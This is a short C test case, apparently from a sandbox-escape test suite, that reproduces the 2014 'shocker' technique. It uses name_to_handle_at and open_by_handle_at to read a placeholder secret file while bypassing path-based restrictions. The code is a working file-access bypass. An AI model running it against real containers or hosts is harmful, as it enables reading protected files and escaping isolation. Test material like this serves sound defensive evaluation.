/* technique: opens the forbidden file by its handle, without any path
 * source: open_by_handle_at(2); the shocker exploit of 2014
 * success: the content of vault/secret.txt on the output
 * control: outside
 * needs: root
 * event: SystemCall
 */
#include "attack.h"

int main(void)
{
	struct {
		struct file_handle head;
		unsigned char room[MAX_HANDLE_SZ];
	} handle = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
	int mount;

	if (name_to_handle_at(AT_FDCWD, SECRET_FILE, &handle.head, &mount, 0))
		return failed("name_to_handle_at");
	return show(open_by_handle_at(open(".", O_RDONLY), &handle.head, O_RDONLY));
}
